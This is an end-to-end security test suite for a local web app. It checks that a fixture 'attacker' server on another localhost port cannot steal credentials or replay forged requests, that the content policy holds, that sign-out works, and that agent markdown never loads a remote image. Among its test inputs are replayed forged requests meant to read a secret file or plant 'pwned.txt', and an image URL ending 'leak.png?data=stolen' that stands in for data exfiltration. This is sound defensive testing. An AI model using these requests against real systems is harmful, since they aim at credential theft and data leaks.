/**
 * The takeover of "another local port": a signed-in user opens pages of another process on
 * 127.0.0.1 and localhost; everything that process received is replayed against plus and
 * opens nothing. Also: signing out (this browser, every browser) in the page, the content
 * policy holding on every tab, and agent markdown that cannot load a remote image.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { mkdir, readdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import WebSocket from "ws";
import { freePort } from "../../services/runtime/ports.js";
import { HAVE_CHROMIUM, launchChromium } from "../helpers/browser.js";
import { until } from "../helpers/nats.js";
import { type RunningPlus, removeHome, startPlus, WEB_BUILT } from "../helpers/plus.js";

const SHOTS = process.env.E2E_SCREENSHOTS;
const ATTACKER = new URL("../fixtures/attacker-server.mjs", import.meta.url).pathname;
const AGENT = new URL("../fixtures/scripted-agent.mjs", import.meta.url).pathname;

interface Seen {
  port: number;
  method: string;
  url: string;
  headers: Record<string, string | string[]>;
  body: string;
}

const CREDENTIAL_KEY = "cocalc-plus.credential";

if (!WEB_BUILT) console.warn("skipping browser tests: dist/web is not built (npm run build)");

describe.skipIf(!HAVE_CHROMIUM || !WEB_BUILT)("security of plus in Chromium", () => {
  let plus: RunningPlus;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let attacker: ChildProcess;
  const seen: Seen[] = [];
  let ports: [number, number];
  const violations: string[] = [];

  async function signedInPage(ctx: BrowserContext): Promise<Page> {
    const p = await ctx.newPage();
    p.on("console", (m) => {
      if (m.text().startsWith("CSP ")) violations.push(m.text());
    });
    await p.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (e) =>
        console.log(`CSP ${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`),
      );
    });
    await p.goto(plus.signInUrl);
    await p.waitForURL(plus.url);
    await p.waitForFunction(
      () => document.querySelector('[data-testid="connection-state"]')?.textContent === "connected",
      undefined,
      { timeout: 30_000 },
    );
    return p;
  }

  beforeAll(async () => {
    plus = await startPlus();
    await writeFile(join(plus.home, "secret.txt"), "the user's secret");
    ports = [await freePort(), await freePort()];
    attacker = spawn(process.execPath, [ATTACKER, ...ports.map(String)], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    let buffered = "";
    let listening = 0;
    attacker.stdout!.on("data", (d) => {
      buffered += d;
      let nl = buffered.indexOf("\n");
      while (nl !== -1) {
        const line = JSON.parse(buffered.slice(0, nl));
        buffered = buffered.slice(nl + 1);
        if (line.listening) listening++;
        else seen.push(line as Seen);
        nl = buffered.indexOf("\n");
      }
    });
    await until("attacker listening", async () => listening === 2);
    browser = await launchChromium();
    context = await browser.newContext();
    page = await signedInPage(context);
  });
  afterAll(async () => {
    attacker?.kill();
    await context?.close();
    await browser?.close();
    await plus?.stop();
    if (plus) await removeHome(plus.home);
  });

  it("pages of another local server learn nothing that opens plus", async () => {
    const credential = await page.evaluate((k) => localStorage.getItem(k), CREDENTIAL_KEY);
    expect(credential).toMatch(/^[\w-]+\.[\w-]+$/);
    const session = await page.evaluate(async (c) => {
      const r = await fetch("/api/session", { headers: { authorization: `Bearer ${c}` } });
      return (await r.json()) as { nats: { pass: string } };
    }, credential);

    // The user opens the other server's pages, on 127.0.0.1 and on localhost.
    for (const [i, host] of [
      [0, "127.0.0.1"],
      [1, "localhost"],
    ] as const) {
      const other = await context.newPage();
      await other.goto(`http://${host}:${ports[i]}/?plus=${plus.port}`);
      await until(`report from ${host}`, async () =>
        seen.some((s) => s.port === ports[i] && s.url === "/report"),
      );
      await other.close();
    }
    const reports = seen.filter((s) => s.url === "/report").map((s) => JSON.parse(s.body));
    for (const r of reports) {
      // From the browser, plus refused it all or the browser withheld the answer.
      expect(r.session).toMatch(/^(failed|401)/);
      expect(r.nats).toBe("error");
      expect(r.image).toBe("error");
      expect(r.cookie).toBe("");
      expect(r.storage).toBe("{}");
    }
    // The favicon, the embedded image and script, the reports: all were received.
    expect(seen.map((s) => s.url.split("?")[0])).toEqual(
      expect.arrayContaining(["/", "/page.js", "/pixel.png", "/report"]),
    );
    const everything = JSON.stringify(seen);
    for (const secret of [credential!, plus.token, session.nats.pass])
      expect(everything).not.toContain(secret);

    // Replay every request's headers (with plus's own Host and Origin forged, as a program
    // can) against every route, and every body as a sign-in.
    const origin = `http://127.0.0.1:${plus.port}`;
    const routes: [string, string][] = [
      ["GET", "/api/session"],
      ["PUT", `/api/files/upload?${new URLSearchParams({ dir: "~", name: "pwned.txt" })}`],
      ["GET", `/api/files/download?${new URLSearchParams({ path: "~/secret.txt" })}`],
      ["POST", "/api/auth/link"],
      ["POST", "/api/auth/sign-out"],
      ["GET", "/api/remote/open/x"],
    ];
    let replays = 0;
    for (const s of seen) {
      const headers: Record<string, string> = {};
      for (const [k, v] of Object.entries(s.headers))
        headers[k] = Array.isArray(v) ? v.join(", ") : v;
      headers.host = `127.0.0.1:${plus.port}`;
      headers.origin = origin;
      delete headers["content-length"];
      for (const [method, path] of routes) {
        const res = await fetch(`${origin}${path}`, {
          method,
          headers: { ...headers, "content-type": "application/json" },
          ...(method !== "GET" && { body: s.body || "{}" }),
        });
        expect([401, 403], `${method} ${path} with the headers of ${s.url}`).toContain(res.status);
        replays++;
      }
      const signInWith = await fetch(`${origin}/api/auth/sign-in`, {
        method: "POST",
        headers: { ...headers, "content-type": "application/json" },
        body: JSON.stringify({ token: s.body }),
      });
      expect(signInWith.status).toBe(401);
      const protocols = ["cocalc.v1"];
      const offered = headers["sec-websocket-protocol"];
      if (offered) protocols.push(...offered.split(",").map((p) => p.trim()));
      const status = await new Promise<number>((resolve) => {
        const ws = new WebSocket(`ws://127.0.0.1:${plus.port}/nats`, protocols, { headers });
        ws.on("unexpected-response", (_q, res) => resolve(res.statusCode ?? 0));
        ws.on("open", () => {
          ws.close();
          resolve(101);
        });
        ws.on("error", () => resolve(-1));
      });
      expect(status, `/nats with the headers of ${s.url}`).toBe(401);
    }
    expect(replays).toBeGreaterThanOrEqual(6 * 6);
    expect(await readdir(plus.home)).not.toContain("pwned.txt");
    // Nothing of it signed the user out.
    expect(await page.getByTestId("connection-state").textContent()).toBe("connected");
  });

  it("the content policy holds on every tab, in the editor and in a terminal", async () => {
    const res = await page.request.get(plus.url);
    const csp = res.headers()["content-security-policy"];
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'self'");
    expect(csp).not.toContain("unsafe-eval");
    // Each page comes with a nonce of its own for the style elements its script makes.
    const nonce = /'nonce-([^']+)'/.exec(csp!)?.[1];
    expect(nonce).toBeDefined();
    expect(await res.text()).toContain(`content="${nonce}"`);
    const again = (await page.request.get(plus.url)).headers()["content-security-policy"];
    expect(again).not.toContain(nonce);

    for (const tab of [
      "Editor",
      "Terminals",
      "Agents",
      "Settings",
      "Remote sessions",
      "Sync",
      "Files",
    ]) {
      await page.getByRole("tab", { name: tab }).click();
      await page.waitForLoadState("networkidle");
    }
    // CodeMirror and xterm make style elements of their own; events are checked on the way.
    await page.goto(`${plus.url}files/secret.txt#editor`);
    await page.locator("[data-testid=code-editor] .cm-content").waitFor({ timeout: 30_000 });
    await expect
      .poll(() => page.locator("[data-testid=code-editor] .cm-content").innerText())
      .toContain("the user's secret");
    await page.getByRole("tab", { name: "Terminals" }).click();
    await page.getByTestId("terminal-new-empty").click();
    await page.locator('[data-testid="terminal-screen"] .xterm-rows').waitFor({ timeout: 30_000 });
    await page.locator('[data-testid="terminal-screen"] .xterm-screen').click();
    await page.keyboard.type("echo csp-$((6*7))\n");
    await expect
      .poll(() => page.locator('[data-testid="terminal-screen"] .xterm-rows').innerText(), {
        timeout: 30_000,
      })
      .toContain("csp-42");
    if (SHOTS) await page.screenshot({ path: `${SHOTS}/security-terminal.png` });
    expect(violations).toEqual([]);
  });

  it("an agent's markdown shows a remote image as a link and never loads it", async () => {
    await mkdir(join(plus.home, "project"), { recursive: true });
    await writeFile(join(plus.home, "project", "s.chat"), '{"type":"cocalc-chat","v":1}\n');
    await page.goto(`${plus.url}files/project/s.chat`);
    await page.getByTestId("new-thread").click();
    await page.getByTestId("thread-pane").waitFor({ timeout: 30_000 });
    await page.getByTestId("thread-settings-toggle").click();
    const form = page.getByTestId("thread-settings");
    await form.locator("select").first().selectOption("custom");
    await page.getByTestId("agent-command").fill(`${process.execPath} ${AGENT}`);
    await form.locator("select").nth(1).selectOption("full-access");
    await page.getByTestId("save-settings").click();
    const leak = `http://127.0.0.1:${ports[0]}/leak.png?data=stolen`;
    await page.getByTestId("composer-input").fill(`say look: ![the chart](${leak}) done`);
    await page.getByTestId("submit").click();
    const link = page.locator(".markdown a.markdown-remote-image");
    await link.waitFor({ timeout: 30_000 });
    expect(await link.textContent()).toContain(`image from 127.0.0.1:${ports[0]}`);
    expect(await link.getAttribute("href")).toBe(leak);
    expect(await page.locator(".markdown img").count()).toBe(0);
    // The turn is finished and rendered: had anything loaded the image, it had reached the server.
    await expect
      .poll(() => page.getByTestId("turn-status").last().getAttribute("data-status"), {
        timeout: 30_000,
      })
      .toBe("finished");
    expect(seen.some((s) => s.url.startsWith("/leak.png"))).toBe(false);
  });

  it("sign out: this browser, then every browser (another browser's open page follows)", async () => {
    const second = await browser.newContext();
    const other = await signedInPage(second);
    const mine = await page.evaluate((k) => localStorage.getItem(k), CREDENTIAL_KEY);

    await page.getByRole("tab", { name: "Settings" }).click();
    await page.getByTestId("sign-out").click();
    await page.getByTestId("signed-out").waitFor({ timeout: 30_000 });
    expect(await page.evaluate((k) => localStorage.getItem(k), CREDENTIAL_KEY)).toBeNull();
    const res = await fetch(`${plus.url}api/session`, {
      headers: { authorization: `Bearer ${mine}` },
    });
    expect(res.status).toBe(401);
    // The other browser is still in.
    expect(await other.getByTestId("connection-state").textContent()).toBe("connected");

    page = await signedInPage(context);
    await page.getByRole("tab", { name: "Settings" }).click();
    await page.getByTestId("sign-out-everywhere").click();
    await page.getByTestId("signed-out").waitFor({ timeout: 30_000 });
    // The other browser's socket was closed and its credential refused: it says so by itself.
    await other.getByTestId("signed-out").waitFor({ timeout: 30_000 });
    expect(await other.textContent("body")).toContain("?token=");
    await second.close();
    // The URL still signs in (only `cocalc-plus token --rotate` changes it).
    page = await signedInPage(context);
    if (SHOTS) {
      await page.getByRole("tab", { name: "Settings" }).click();
      await page.getByTestId("settings-sign-in").screenshot({ path: `${SHOTS}/sign-in.png` });
    }
    expect(violations).toEqual([]);
  });
});
